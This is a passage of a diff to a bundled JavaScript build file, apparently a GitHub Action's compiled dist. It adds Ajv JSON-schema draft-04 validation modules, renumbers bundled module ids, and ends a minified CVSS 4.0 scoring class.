super.isCategoryPartiallyDefined(n.Cvss4P0Components.ENVIRONMENTAL_MODIFIED_BASE_CATEGORY)||super.isCategoryPartiallyDefined(n.Cvss4P0Components.ENVIRONMENTAL_SECURITY_REQUIREMENT_CATEGORY)}getJsonSchemaSeverity(e){return 0===e||isNaN(e)?"NONE":e<=3.9?"LOW":e<=6.9?"MEDIUM":e<=8.9?"HIGH":"CRITICAL"}createJsonSchema(){const e=this.calculateScores();return{version:"4.0",vectorString:this.toString(),baseScore:e.overall,baseSeverity:this.getJsonSchemaSeverity(e.overall),attackVector:this.getComponent(n.Cvss4P0Components.AV).jsonSchemaName,attackComplexity:this.getComponent(n.Cvss4P0Components.AC).jsonSchemaName,attackRequirements:this.getComponent(n.Cvss4P0Components.AT).jsonSchemaName,privilegesRequired:this.getComponent(n.Cvss4P0Components.PR).jsonSchemaName,userInteraction:this.getComponent(n.Cvss4P0Components.UI).jsonSchemaName,vulnConfidentialityImpact:this.getComponent(n.Cvss4P0Components.VC).jsonSchemaName,vulnIntegrityImpact:this.getComponent(n.Cvss4P0Components.VI).jsonSchemaName,vulnAvailabilityImpact:this.getComponent(n.Cvss4P0Components.VA).jsonSchemaName,subConfidentialityImpact:this.getComponent(n.Cvss4P0Components.SC).jsonSchemaName,subIntegrityImpact:this.getComponent(n.Cvss4P0Components.SI).jsonSchemaName,subAvailabilityImpact:this.getComponent(n.Cvss4P0Components.SA).jsonSchemaName,exploitMaturity:this.getComponent(n.Cvss4P0Components.E).jsonSchemaName,confidentialityRequirement:this.getComponent(n.Cvss4P0Components.CR).jsonSchemaName,integrityRequirement:this.getComponent(n.Cvss4P0Components.IR).jsonSchemaName,availabilityRequirement:this.getComponent(n.Cvss4P0Components.AR).jsonSchemaName,modifiedAttackVector:this.getComponent(n.Cvss4P0Components.MAV).jsonSchemaName,modifiedAttackComplexity:this.getComponent(n.Cvss4P0Components.MAC).jsonSchemaName,modifiedAttackRequirements:this.getComponent(n.Cvss4P0Components.MAT).jsonSchemaName,modifiedPrivilegesRequired:this.getComponent(n.Cvss4P0Components.MPR).jsonSchemaName,modifiedUserInteraction:this.getComponent(n.Cvss4P0Components.MUI).jsonSchemaName,modifiedVulnConfidentialityImpact:this.getComponent(n.Cvss4P0Components.MVC).jsonSchemaName,modifiedVulnIntegrityImpact:this.getComponent(n.Cvss4P0Components.MVI).jsonSchemaName,modifiedVulnAvailabilityImpact:this.getComponent(n.Cvss4P0Components.MVA).jsonSchemaName,modifiedSubConfidentialityImpact:this.getComponent(n.Cvss4P0Components.MSC).jsonSchemaName,modifiedSubIntegrityImpact:this.getComponent(n.Cvss4P0Components.MSI).jsonSchemaName,modifiedSubAvailabilityImpact:this.getComponent(n.Cvss4P0Components.MSA).jsonSchemaName,Safety:this.getComponent(n.Cvss4P0Components.S).jsonSchemaName,Automatable:this.getComponent(n.Cvss4P0Components.AU).jsonSchemaName,Recovery:this.getComponent(n.Cvss4P0Components.R).jsonSchemaName,valueDensity:this.getComponent(n.Cvss4P0Components.V).jsonSchemaName,vulnerabilityResponseEffort:this.getComponent(n.Cvss4P0Components.RE).jsonSchemaName,providerUrgency:this.getComponent(n.Cvss4P0Components.U).jsonSchemaName}}}t.Cvss4P0=l,r.EQ.createCvssInstance=e=>new l(e);class m{constructor(){this.sum=0,this.count=0}add(e){this.sum+=e,this.count++}get(e){return 0==this.count?e:this.sum/this.count}}}},t={};return function o(a){var i=t[a];if(void 0!==i)return i.exports;var s=t[a]={exports:{}};return e[a].call(s.exports,s,s.exports,o),s.exports}(156)})()));
+
+/***/ }),
+
+/***/ 905:
+/***/ ((module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.CodeGen = exports.Name = exports.nil = exports.stringify = exports.str = exports._ = exports.KeywordCxt = void 0;
+const core_1 = __nccwpck_require__(3893);
+const draft4_1 = __nccwpck_require__(3309);
+const discriminator_1 = __nccwpck_require__(8886);
+const draft4MetaSchema = __nccwpck_require__(6337);
+const META_SUPPORT_DATA = ["/properties"];
+const META_SCHEMA_ID = "http://json-schema.org/draft-04/schema";
+class Ajv extends core_1.default {
+    constructor(opts = {}) {
+        super({
+            ...opts,
+            schemaId: "id",
+        });
+    }
+    _addVocabularies() {
+        super._addVocabularies();
+        draft4_1.default.forEach((v) => this.addVocabulary(v));
+        if (this.opts.discriminator)
+            this.addKeyword(discriminator_1.default);
+    }
+    _addDefaultMetaSchema() {
+        super._addDefaultMetaSchema();
+        if (!this.opts.meta)
+            return;
+        const metaSchema = this.opts.$data
+            ? this.$dataMetaSchema(draft4MetaSchema, META_SUPPORT_DATA)
+            : draft4MetaSchema;
+        this.addMetaSchema(metaSchema, META_SCHEMA_ID, false);
+        this.refs["http://json-schema.org/schema"] = META_SCHEMA_ID;
+    }
+    defaultMeta() {
+        return (this.opts.defaultMeta =
+            super.defaultMeta() || (this.getSchema(META_SCHEMA_ID) ? META_SCHEMA_ID : undefined));
+    }
+}
+module.exports = exports = Ajv;
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports["default"] = Ajv;
+var core_2 = __nccwpck_require__(3893);
+Object.defineProperty(exports, "KeywordCxt", ({ enumerable: true, get: function () { return core_2.KeywordCxt; } }));
+var core_3 = __nccwpck_require__(3893);
+Object.defineProperty(exports, "_", ({ enumerable: true, get: function () { return core_3._; } }));
+Object.defineProperty(exports, "str", ({ enumerable: true, get: function () { return core_3.str; } }));
+Object.defineProperty(exports, "stringify", ({ enumerable: true, get: function () { return core_3.stringify; } }));
+Object.defineProperty(exports, "nil", ({ enumerable: true, get: function () { return core_3.nil; } }));
+Object.defineProperty(exports, "Name", ({ enumerable: true, get: function () { return core_3.Name; } }));
+Object.defineProperty(exports, "CodeGen", ({ enumerable: true, get: function () { return core_3.CodeGen; } }));
+//# sourceMappingURL=index.js.map
+
+/***/ }),
+
+/***/ 7243:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+const ref_1 = __nccwpck_require__(2996);
+const core = [
+    "$schema",
+    "id",
+    "$defs",
+    { keyword: "$comment" },
+    "definitions",
+    ref_1.default,
+];
+exports["default"] = core;
+//# sourceMappingURL=core.js.map
+
+/***/ }),
+
+/***/ 3309:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+const core_1 = __nccwpck_require__(7243);
+const validation_1 = __nccwpck_require__(4376);
+const applicator_1 = __nccwpck_require__(8775);
+const format_1 = __nccwpck_require__(2601);
+const metadataVocabulary = ["title", "description", "default"];
+const draft4Vocabularies = [
+    core_1.default,
+    validation_1.default,
+    applicator_1.default(),
+    format_1.default,
+    metadataVocabulary,
+];
+exports["default"] = draft4Vocabularies;
+//# sourceMappingURL=draft4.js.map
+
+/***/ }),
+
+/***/ 4376:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+const limitNumber_1 = __nccwpck_require__(4430);
+const limitNumberExclusive_1 = __nccwpck_require__(8600);
+const multipleOf_1 = __nccwpck_require__(8132);
+const limitLength_1 = __nccwpck_require__(6962);
+const pattern_1 = __nccwpck_require__(6023);
+const limitProperties_1 = __nccwpck_require__(895);
+const required_1 = __nccwpck_require__(4504);
+const limitItems_1 = __nccwpck_require__(6296);
+const uniqueItems_1 = __nccwpck_require__(5132);
+const const_1 = __nccwpck_require__(8026);
+const enum_1 = __nccwpck_require__(3200);
+const validation = [
+    // number
+    limitNumber_1.default,
+    limitNumberExclusive_1.default,
+    multipleOf_1.default,
+    // string
+    limitLength_1.default,
+    pattern_1.default,
+    // object
+    limitProperties_1.default,
+    required_1.default,
+    // array
+    limitItems_1.default,
+    uniqueItems_1.default,
+    // any
+    { keyword: "type", schemaType: ["string", "array"] },
+    { keyword: "nullable", schemaType: "boolean" },
+    const_1.default,
+    enum_1.default,
+];
+exports["default"] = validation;
+//# sourceMappingURL=index.js.map
+
+/***/ }),
+
+/***/ 4430:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+const core_1 = __nccwpck_require__(3893);
+const codegen_1 = __nccwpck_require__(1436);
+const ops = codegen_1.operators;
+const KWDs = {
+    maximum: {
+        exclusive: "exclusiveMaximum",
+        ops: [
+            { okStr: "<=", ok: ops.LTE, fail: ops.GT },
+            { okStr: "<", ok: ops.LT, fail: ops.GTE },
+        ],
+    },
+    minimum: {
+        exclusive: "exclusiveMinimum",
+        ops: [
+            { okStr: ">=", ok: ops.GTE, fail: ops.LT },
+            { okStr: ">", ok: ops.GT, fail: ops.LTE },
+        ],
+    },
+};
+const error = {
+    message: (cxt) => core_1.str `must be ${kwdOp(cxt).okStr} ${cxt.schemaCode}`,
+    params: (cxt) => core_1._ `{comparison: ${kwdOp(cxt).okStr}, limit: ${cxt.schemaCode}}`,
+};
+const def = {
+    keyword: Object.keys(KWDs),
+    type: "number",
+    schemaType: "number",
+    $data: true,
+    error,
+    code(cxt) {
+        const { data, schemaCode } = cxt;
+        cxt.fail$data(core_1._ `${data} ${kwdOp(cxt).fail} ${schemaCode} || isNaN(${data})`);
+    },
+};
+function kwdOp(cxt) {
+    var _a;
+    const keyword = cxt.keyword;
+    const opsIdx = ((_a = cxt.parentSchema) === null || _a === void 0 ? void 0 : _a[KWDs[keyword].exclusive]) ? 1 : 0;
+    return KWDs[keyword].ops[opsIdx];
+}
+exports["default"] = def;
+//# sourceMappingURL=limitNumber.js.map
+
+/***/ }),
+
+/***/ 8600:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+const KWDs = {
+    exclusiveMaximum: "maximum",
+    exclusiveMinimum: "minimum",
+};
+const def = {
+    keyword: Object.keys(KWDs),
+    type: "number",
+    schemaType: "boolean",
+    code({ keyword, parentSchema }) {
+        const limitKwd = KWDs[keyword];
+        if (parentSchema[limitKwd] === undefined) {
+            throw new Error(`${keyword} can only be used with ${limitKwd}`);
+        }
+    },
+};
+exports["default"] = def;
+//# sourceMappingURL=limitNumberExclusive.js.map
+
+/***/ }),
+
+/***/ 779:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -215,14 +450,14 @@ function regex(str) {
 
 /***/ }),
 
-/***/ 5615:
+/***/ 2815:
 /***/ ((module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const formats_1 = __nccwpck_require__(5067);
-const limit_1 = __nccwpck_require__(1796);
-const codegen_1 = __nccwpck_require__(6300);
+const formats_1 = __nccwpck_require__(779);
+const limit_1 = __nccwpck_require__(1284);
+const codegen_1 = __nccwpck_require__(1436);
 const fullName = new codegen_1.Name("fullFormats");
 const fastName = new codegen_1.Name("fastFormats");
 const formatsPlugin = (ajv, opts = { keywords: true }) => {
@@ -258,14 +493,14 @@ exports["default"] = formatsPlugin;
 
 /***/ }),
 
-/***/ 1796:
+/***/ 1284:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.formatLimitDefinition = void 0;
-const ajv_1 = __nccwpck_require__(7615);
-const codegen_1 = __nccwpck_require__(6300);
+const ajv_1 = __nccwpck_require__(2463);
+const codegen_1 = __nccwpck_require__(1436);
 const ops = codegen_1.operators;
 const KWDs = {
     formatMaximum: { okStr: "<=", ok: ops.LTE, fail: ops.GT },
@@ -333,16 +568,16 @@ exports["default"] = formatLimitPlugin;
 
 /***/ }),
 
-/***/ 8514:
+/***/ 2210:
 /***/ ((module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.MissingRefError = exports.ValidationError = exports.CodeGen = exports.Name = exports.nil = exports.stringify = exports.str = exports._ = exports.KeywordCxt = exports.Ajv2020 = void 0;
-const core_1 = __nccwpck_require__(9669);
-const draft2020_1 = __nccwpck_require__(9210);
-const discriminator_1 = __nccwpck_require__(7446);
-const json_schema_2020_12_1 = __nccwpck_require__(5131);
+const core_1 = __nccwpck_require__(3893);
+const draft2020_1 = __nccwpck_require__(4298);
+const discriminator_1 = __nccwpck_require__(8886);
+const json_schema_2020_12_1 = __nccwpck_require__(3995);
 const META_SCHEMA_ID = "https://json-schema.org/draft/2020-12/schema";
 class Ajv2020 extends core_1.default {
     constructor(opts = {}) {
@@ -377,33 +612,33 @@ module.exports = exports = Ajv2020;
 module.exports.Ajv2020 = Ajv2020;
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports["default"] = Ajv2020;
-var validate_1 = __nccwpck_require__(6537);
+var validate_1 = __nccwpck_require__(7881);
 Object.defineProperty(exports, "KeywordCxt", ({ enumerable: true, get: function () { return validate_1.KeywordCxt; } }));
-var codegen_1 = __nccwpck_require__(6300);
+var codegen_1 = __nccwpck_require__(1436);
 Object.defineProperty(exports, "_", ({ enumerable: true, get: function () { return codegen_1._; } }));
 Object.defineProperty(exports, "str", ({ enumerable: true, get: function () { return codegen_1.str; } }));
 Object.defineProperty(exports, "stringify", ({ enumerable: true, get: function () { return codegen_1.stringify; } }));
 Object.defineProperty(exports, "nil", ({ enumerable: true, get: function () { return codegen_1.nil; } }));
 Object.defineProperty(exports, "Name", ({ enumerable: true, get: function () { return codegen_1.Name; } }));
 Object.defineProperty(exports, "CodeGen", ({ enumerable: true, get: function () { return codegen_1.CodeGen; } }));
-var validation_error_1 = __nccwpck_require__(525);
+var validation_error_1 = __nccwpck_require__(5402);
 Object.defineProperty(exports, "ValidationError", ({ enumerable: true, get: function () { return validation_error_1.default; } }));
-var ref_error_1 = __nccwpck_require__(346);
+var ref_error_1 = __nccwpck_require__(3162);
 Object.defineProperty(exports, "MissingRefError", ({ enumerable: true, get: function () { return ref_error_1.default; } }));
 //# sourceMappingURL=2020.js.map
 
 /***/ }),
 
-/***/ 7615:
+/***/ 2463:
 /***/ ((module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.MissingRefError = exports.ValidationError = exports.CodeGen = exports.Name = exports.nil = exports.stringify = exports.str = exports._ = exports.KeywordCxt = exports.Ajv = void 0;
-const core_1 = __nccwpck_require__(9669);
-const draft7_1 = __nccwpck_require__(9381);
-const discriminator_1 = __nccwpck_require__(7446);
-const draft7MetaSchema = __nccwpck_require__(6564);
+const core_1 = __nccwpck_require__(3893);
+const draft7_1 = __nccwpck_require__(9941);
+const discriminator_1 = __nccwpck_require__(8886);
+const draft7MetaSchema = __nccwpck_require__(2079);
 const META_SUPPORT_DATA = ["/properties"];
 const META_SCHEMA_ID = "http://json-schema.org/draft-07/schema";
 class Ajv extends core_1.default {
@@ -433,24 +668,24 @@ module.exports = exports = Ajv;
 module.exports.Ajv = Ajv;
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports["default"] = Ajv;
-var validate_1 = __nccwpck_require__(6537);
+var validate_1 = __nccwpck_require__(7881);
 Object.defineProperty(exports, "KeywordCxt", ({ enumerable: true, get: function () { return validate_1.KeywordCxt; } }));
-var codegen_1 = __nccwpck_require__(6300);
+var codegen_1 = __nccwpck_require__(1436);
 Object.defineProperty(exports, "_", ({ enumerable: true, get: function () { return codegen_1._; } }));
 Object.defineProperty(exports, "str", ({ enumerable: true, get: function () { return codegen_1.str; } }));
 Object.defineProperty(exports, "stringify", ({ enumerable: true, get: function () { return codegen_1.stringify; } }));
 Object.defineProperty(exports, "nil", ({ enumerable: true, get: function () { return codegen_1.nil; } }));
 Object.defineProperty(exports, "Name", ({ enumerable: true, get: function () { return codegen_1.Name; } }));
 Object.defineProperty(exports, "CodeGen", ({ enumerable: true, get: function () { return codegen_1.CodeGen; } }));
-var validation_error_1 = __nccwpck_require__(525);
+var validation_error_1 = __nccwpck_require__(5402);
 Object.defineProperty(exports, "ValidationError", ({ enumerable: true, get: function () { return validation_error_1.default; } }));
-var ref_error_1 = __nccwpck_require__(346);
+var ref_error_1 = __nccwpck_require__(3162);
 Object.defineProperty(exports, "MissingRefError", ({ enumerable: true, get: function () { return ref_error_1.default; } }));
 //# sourceMappingURL=ajv.js.map
 
 /***/ }),
 
-/***/ 8279:
+/***/ 567:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -612,15 +847,15 @@ exports.regexpCode = regexpCode;
 
 /***/ }),
 
-/***/ 6300:
+/***/ 1436:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.or = exports.and = exports.not = exports.CodeGen = exports.operators = exports.varKinds = exports.ValueScopeName = exports.ValueScope = exports.Scope = exports.Name = exports.regexpCode = exports.stringify = exports.getProperty = exports.nil = exports.strConcat = exports.str = exports._ = void 0;
-const code_1 = __nccwpck_require__(8279);
-const scope_1 = __nccwpck_require__(6956);
-var code_2 = __nccwpck_require__(8279);
+const code_1 = __nccwpck_require__(567);
+const scope_1 = __nccwpck_require__(5407);
+var code_2 = __nccwpck_require__(567);
 Object.defineProperty(exports, "_", ({ enumerable: true, get: function () { return code_2._; } }));
 Object.defineProperty(exports, "str", ({ enumerable: true, get: function () { return code_2.str; } }));
 Object.defineProperty(exports, "strConcat", ({ enumerable: true, get: function () { return code_2.strConcat; } }));
@@ -629,7 +864,7 @@ Object.defineProperty(exports, "getProperty", ({ enumerable: true, get: function
 Object.defineProperty(exports, "stringify", ({ enumerable: true, get: function () { return code_2.stringify; } }));
 Object.defineProperty(exports, "regexpCode", ({ enumerable: true, get: function () { return code_2.regexpCode; } }));
 Object.defineProperty(exports, "Name", ({ enumerable: true, get: function () { return code_2.Name; } }));
-var scope_2 = __nccwpck_require__(6956);
+var scope_2 = __nccwpck_require__(5407);
 Object.defineProperty(exports, "Scope", ({ enumerable: true, get: function () { return scope_2.Scope; } }));
 Object.defineProperty(exports, "ValueScope", ({ enumerable: true, get: function () { return scope_2.ValueScope; } }));
 Object.defineProperty(exports, "ValueScopeName", ({ enumerable: true, get: function () { return scope_2.ValueScopeName; } }));
@@ -1315,13 +1550,13 @@ function par(x) {
 
 /***/ }),
 
-/***/ 6956:
+/***/ 5407:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.ValueScope = exports.ValueScopeName = exports.Scope = exports.varKinds = exports.UsedValueState = void 0;
-const code_1 = __nccwpck_require__(8279);
+const code_1 = __nccwpck_require__(567);
 class ValueError extends Error {
     constructor(name) {
         super(`CodeGen: "code" for ${name} not defined`);
@@ -1464,15 +1699,15 @@ exports.ValueScope = ValueScope;
 
 /***/ }),
 
-/***/ 4659:
+/***/ 1283:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.extendErrors = exports.resetErrorsCount = exports.reportExtraError = exports.reportError = exports.keyword$DataError = exports.keywordError = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
-const names_1 = __nccwpck_require__(8054);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
+const names_1 = __nccwpck_require__(630);
 exports.keywordError = {
     message: ({ keyword }) => (0, codegen_1.str) `must pass "${keyword}" keyword validation`,
 };
@@ -1593,18 +1828,18 @@ function extraErrorProps(cxt, { params, message }, keyValues) {
 
 /***/ }),
 
-/***/ 7150:
+/***/ 2718:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.resolveSchema = exports.getCompilingSchema = exports.resolveRef = exports.compileSchema = exports.SchemaEnv = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const validation_error_1 = __nccwpck_require__(525);
-const names_1 = __nccwpck_require__(8054);
-const resolve_1 = __nccwpck_require__(426);
-const util_1 = __nccwpck_require__(5248);
-const validate_1 = __nccwpck_require__(6537);
+const codegen_1 = __nccwpck_require__(1436);
+const validation_error_1 = __nccwpck_require__(5402);
+const names_1 = __nccwpck_require__(630);
+const resolve_1 = __nccwpck_require__(4090);
+const util_1 = __nccwpck_require__(4464);
+const validate_1 = __nccwpck_require__(7881);
 class SchemaEnv {
     constructor(env) {
         var _a;
@@ -1841,12 +2076,12 @@ function getJsonPointer(parsedRef, { baseId, schema, root }) {
 
 /***/ }),
 
-/***/ 8054:
+/***/ 630:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const codegen_1 = __nccwpck_require__(6300);
+const codegen_1 = __nccwpck_require__(1436);
 const names = {
     // validation function arguments
     data: new codegen_1.Name("data"), // data passed to validation function
@@ -1875,12 +2110,12 @@ exports["default"] = names;
 
 /***/ }),
 
-/***/ 346:
+/***/ 3162:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-const resolve_1 = __nccwpck_require__(426);
+const resolve_1 = __nccwpck_require__(4090);
 class MissingRefError extends Error {
     constructor(resolver, baseId, ref, msg) {
         super(msg || `can't resolve reference ${ref} from id ${baseId}`);
@@ -1893,15 +2128,15 @@ exports["default"] = MissingRefError;
 
 /***/ }),
 
-/***/ 426:
+/***/ 4090:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.getSchemaRefs = exports.resolveUrl = exports.normalizeId = exports._getFullPath = exports.getFullPath = exports.inlineRef = void 0;
-const util_1 = __nccwpck_require__(5248);
-const equal = __nccwpck_require__(2550);
-const traverse = __nccwpck_require__(4591);
+const util_1 = __nccwpck_require__(4464);
+const equal = __nccwpck_require__(3430);
+const traverse = __nccwpck_require__(1167);
 // TODO refactor to use keyword definitions
 const SIMPLE_INLINED = new Set([
     "type",
@@ -2054,7 +2289,7 @@ exports.getSchemaRefs = getSchemaRefs;
 
 /***/ }),
 
-/***/ 7977:
+/***/ 7353:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -2086,14 +2321,14 @@ exports.getRules = getRules;
 
 /***/ }),
 
-/***/ 5248:
+/***/ 4464:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.checkStrictMode = exports.getErrorPath = exports.Type = exports.useFunc = exports.setEvaluated = exports.evaluatedPropsToName = exports.mergeEvaluated = exports.eachItem = exports.unescapeJsonPointer = exports.escapeJsonPointer = exports.escapeFragment = exports.unescapeFragment = exports.schemaRefOrVal = exports.schemaHasRulesButRef = exports.schemaHasRules = exports.checkUnknownRules = exports.alwaysValidSchema = exports.toHash = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const code_1 = __nccwpck_require__(8279);
+const codegen_1 = __nccwpck_require__(1436);
+const code_1 = __nccwpck_require__(567);
 // TODO refactor to use Set
 function toHash(arr) {
     const hash = {};
@@ -2270,7 +2505,7 @@ exports.checkStrictMode = checkStrictMode;
 
 /***/ }),
 
-/***/ 5324:
+/***/ 7692:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -2295,15 +2530,15 @@ exports.shouldUseRule = shouldUseRule;
 
 /***/ }),
 
-/***/ 3282:
+/***/ 5346:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.boolOrEmptySchema = exports.topBoolOrEmptySchema = void 0;
-const errors_1 = __nccwpck_require__(4659);
-const codegen_1 = __nccwpck_require__(6300);
-const names_1 = __nccwpck_require__(8054);
+const errors_1 = __nccwpck_require__(1283);
+const codegen_1 = __nccwpck_require__(1436);
+const names_1 = __nccwpck_require__(630);
 const boolError = {
     message: "boolean schema is false",
 };
@@ -2351,17 +2586,17 @@ function falseSchemaError(it, overrideAllErrors) {
 
 /***/ }),
 
-/***/ 6701:
+/***/ 6685:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.reportTypeError = exports.checkDataTypes = exports.checkDataType = exports.coerceAndCheckDataType = exports.getJSONTypes = exports.getSchemaTypes = exports.DataType = void 0;
-const rules_1 = __nccwpck_require__(7977);
-const applicability_1 = __nccwpck_require__(5324);
-const errors_1 = __nccwpck_require__(4659);
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
+const rules_1 = __nccwpck_require__(7353);
+const applicability_1 = __nccwpck_require__(7692);
+const errors_1 = __nccwpck_require__(1283);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
 var DataType;
 (function (DataType) {
     DataType[DataType["Correct"] = 0] = "Correct";
@@ -2560,14 +2795,14 @@ function getTypeErrorContext(it) {
 
 /***/ }),
 
-/***/ 9715:
+/***/ 1699:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.assignDefaults = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
 function assignDefaults(it, ty) {
     const { properties, items } = it.schema;
     if (ty === "object" && properties) {
@@ -2601,24 +2836,24 @@ function assignDefault(it, prop, defaultValue) {
 
 /***/ }),
 
-/***/ 6537:
+/***/ 7881:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.getData = exports.KeywordCxt = exports.validateFunctionCode = void 0;
-const boolSchema_1 = __nccwpck_require__(3282);
-const dataType_1 = __nccwpck_require__(6701);
-const applicability_1 = __nccwpck_require__(5324);
-const dataType_2 = __nccwpck_require__(6701);
-const defaults_1 = __nccwpck_require__(9715);
-const keyword_1 = __nccwpck_require__(6002);
-const subschema_1 = __nccwpck_require__(9576);
-const codegen_1 = __nccwpck_require__(6300);
-const names_1 = __nccwpck_require__(8054);
-const resolve_1 = __nccwpck_require__(426);
-const util_1 = __nccwpck_require__(5248);
-const errors_1 = __nccwpck_require__(4659);
+const boolSchema_1 = __nccwpck_require__(5346);
+const dataType_1 = __nccwpck_require__(6685);
+const applicability_1 = __nccwpck_require__(7692);
+const dataType_2 = __nccwpck_require__(6685);
+const defaults_1 = __nccwpck_require__(1699);
+const keyword_1 = __nccwpck_require__(5202);
+const subschema_1 = __nccwpck_require__(6200);
+const codegen_1 = __nccwpck_require__(1436);
+const names_1 = __nccwpck_require__(630);
+const resolve_1 = __nccwpck_require__(4090);
+const util_1 = __nccwpck_require__(4464);
+const errors_1 = __nccwpck_require__(1283);
 // schema compilation - generates validation function, subschemaCode (below) is used for subschemas
 function validateFunctionCode(it) {
     if (isSchemaObj(it)) {
@@ -3127,16 +3362,16 @@ exports.getData = getData;
 
 /***/ }),
 
-/***/ 6002:
+/***/ 5202:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.validateKeywordUsage = exports.validSchemaType = exports.funcKeywordCode = exports.macroKeywordCode = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const names_1 = __nccwpck_require__(8054);
-const code_1 = __nccwpck_require__(7924);
-const errors_1 = __nccwpck_require__(4659);
+const codegen_1 = __nccwpck_require__(1436);
+const names_1 = __nccwpck_require__(630);
+const code_1 = __nccwpck_require__(8484);
+const errors_1 = __nccwpck_require__(1283);
 function macroKeywordCode(cxt, def) {
     const { gen, keyword, schema, parentSchema, it } = cxt;
     const macroSchema = def.macro.call(it.self, schema, parentSchema, it);
@@ -3257,14 +3492,14 @@ exports.validateKeywordUsage = validateKeywordUsage;
 
 /***/ }),
 
-/***/ 9576:
+/***/ 6200:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.extendSubschemaMode = exports.extendSubschemaData = exports.getSubschema = void 0;
-const codegen_1 = __nccwpck_require__(6300);
-const util_1 = __nccwpck_require__(5248);
+const codegen_1 = __nccwpck_require__(1436);
+const util_1 = __nccwpck_require__(4464);
 function getSubschema(it, { keyword, schemaProp, schema, schemaPath, errSchemaPath, topSchemaRef }) {
     if (keyword !== undefined && schema !== undefined) {
         throw new Error('both "keyword" and "schema" passed, only one allowed');
@@ -3344,31 +3579,31 @@ exports.extendSubschemaMode = extendSubschemaMode;
 
 /***/ }),
 
-/***/ 9669:
+/***/ 3893:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.CodeGen = exports.Name = exports.nil = exports.stringify = exports.str = exports._ = exports.KeywordCxt = void 0;
-var validate_1 = __nccwpck_require__(6537);
+var validate_1 = __nccwpck_require__(7881);
 Object.defineProperty(exports, "KeywordCxt", ({ enumerable: true, get: function () { return validate_1.KeywordCxt; } }));
-var codegen_1 = __nccwpck_require__(6300);
+var codegen_1 = __nccwpck_require__(1436);
 Object.defineProperty(exports, "_", ({ enumerable: true, get: function () { return codegen_1._; } }));
 Object.defineProperty(exports, "str", ({ enumerable: true, get: function () { return codegen_1.str; } }));
 Object.defineProperty(exports, "stringify", ({ enumerable: true, get: function () { return codegen_1.stringify; } }));
 Object.defineProperty(exports, "nil", ({ enumerable: true, get: function () { return codegen_1.nil; } }));
 Object.defineProperty(exports, "Name", ({ enumerable: true, get: function () { return codegen_1.Name; } }));
